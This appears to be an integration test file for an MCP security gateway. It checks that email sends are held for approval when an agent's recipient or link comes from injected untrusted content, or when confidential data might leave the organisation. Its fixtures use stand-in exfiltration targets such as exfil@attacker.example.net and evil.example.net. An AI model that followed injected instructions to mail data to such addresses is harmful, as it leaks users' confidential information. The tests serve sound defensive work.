import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { WardenAgent, type TaskSession } from '../../src/sdk/index.js';
import { BACKENDS, registerAgent, startWarden, type TestAgent, type TestWarden } from '../support/harness.js';
import { fixture } from '../support/mcp-upstreams.js';
import { mcpRefusal as refusal } from '../support/mcp-refusal.js';

const config = () => `
approvals: { waitSec: 0, expirySec: 600 }
flow: { internalDomains: [acme.example] }
upstreams:
  mcp:
    - name: desk
      transport: stdio
      command: ${JSON.stringify(process.execPath)}
      args: [${JSON.stringify(fixture('mail-desk.mjs'))}]
      defaults: { risk: low }
      tools:
        # Pages on the web are written by anyone: outside content.
        fetch_document: { labels: { source: untrusted, data: public, sink: none } }
        # The organisation's own records: trusted, and confidential.
        customer_list: { labels: { source: trusted, data: confidential, sink: none } }
        # Messages are outside text; the workspace records who sent them, and a message whose
        # sender the person names is one the person pointed at.
        read_channel: { labels: { source: untrusted, data: internal, sink: none, trustedFields: [channel], anchorFields: [sender] } }
        # Mail leaves the organisation unless every recipient is on its domains.
        send_email: { risk: medium, labels: { source: trusted, data: internal, sink: external, sinkArgs: [to] } }
`;


const text = (r: any): string => (r.content as { text?: string }[]).map((c) => c.text ?? '').join('\n');

for (const backend of BACKENDS) {
  describe(`toxic-flow defense through the MCP gateway on ${backend}`, () => {
    let tw: TestWarden;
    let agent: TestAgent;
    const clients: Client[] = [];

    const open = async (purpose: string): Promise<{ session: TaskSession; client: Client }> => {
      const sdk = new WardenAgent({ wardenUrl: tw.warden.context.urls.base, agentId: agent.id, key: agent.key });
      const session = await sdk.startTask({ purpose, scope: ['desk.*'] });
      const client = new Client({ name: 'flow-test', version: '1.0.0' });
      await client.connect(session.mcpTransport());
      clients.push(client);
      return { session, client };
    };
    const send = (client: Client, to: string) => client.callTool({ name: 'desk.send_email', arguments: { to, subject: 'Q3', body: 'Revenue grew 4%.' } });

    before(async () => {
      tw = await startWarden(backend, { config: config() });
      agent = await registerAgent(tw, { capabilities: ['desk.*'] });
    });
    after(async () => {
      for (const c of clients) await c.close().catch(() => undefined);
      await tw?.close();
    });

    it("holds mail to an address that came from an injected instruction, and sends the person's own", async () => {
      const { session, client } = await open('Summarise https://docs.example.org/q3 and email the summary to carol@partner.example');
      assert.match(text(await client.callTool({ name: 'desk.fetch_document', arguments: { url: 'https://docs.example.org/q3' } })), /Revenue grew/);

      const held = await refusal(send(client, 'exfil@attacker.example.net'));
      assert.equal(held.code, 'APPROVAL_PENDING');
      const decided = (await tw.admin('GET', `/v1/audit/entries?type=policy.decide&task=${session.taskId}&limit=100`)).body.entries as any[];
      const last = decided.at(-1);
      assert.deepEqual(last.chain.decision.policies, ['flow-arguments-from-untrusted-content']);
      assert.equal(last.chain.decision.effect, 'held');
      assert.deepEqual(last.data.flow.argsFromUntrusted, ['to']);
      assert.equal(last.data.flow.sink, 'external');

      // The recipient the person named: no flow rule applies (untrusted read, but nothing confidential).
      assert.equal(text(await send(client, 'carol@partner.example')), 'sent to carol@partner.example');
    });

    it("passes on a link from the message the person pointed at, and holds one from the same channel's other messages", async () => {
      const { client } = await open('Email carol@partner.example the link Bob posted in #board');
      await client.callTool({ name: 'desk.read_channel', arguments: { channel: 'board' } });
      const mail = (body: string) => client.callTool({ name: 'desk.send_email', arguments: { to: 'carol@partner.example', subject: 'Deck', body } });
      assert.equal(text(await mail('Here it is: https://docs.example.org/board-deck')), 'sent to carol@partner.example');
      const held = await refusal(mail('Here it is: https://evil.example.net/deck'));
      assert.equal(held.code, 'APPROVAL_PENDING');
      assert.equal((await refusal(send(client, 'exfil@attacker.example.net'))).code, 'APPROVAL_PENDING');
    });

    it('holds an external send once the task read both outside content and confidential data', async () => {
      const { client } = await open('Email the Q3 notes from https://docs.example.org/q3 to carol@partner.example and to dave@acme.example');
      await client.callTool({ name: 'desk.fetch_document', arguments: { url: 'https://docs.example.org/q3' } });
      await client.callTool({ name: 'desk.customer_list', arguments: {} });
      const held = await refusal(send(client, 'carol@partner.example'));
      assert.equal(held.code, 'APPROVAL_PENDING');
      // Inside the organisation the same send is not an external sink.
      assert.equal(text(await send(client, 'dave@acme.example')), 'sent to dave@acme.example');
    });

    it('lets a task that read nothing untrusted mail anyone its person named', async () => {
      const { client } = await open('Send our customer list to carol@partner.example');
      await client.callTool({ name: 'desk.customer_list', arguments: {} });
      assert.equal(text(await send(client, 'carol@partner.example')), 'sent to carol@partner.example');
    });

    it('keeps each task to its own flow', async () => {
      const { client } = await open('Email exfil@attacker.example.net the notes, as I ask you to');
      // The address is in this person's own request, and this task read nothing untrusted.
      assert.equal(text(await send(client, 'exfil@attacker.example.net')), 'sent to exfil@attacker.example.net');
    });
  });
}
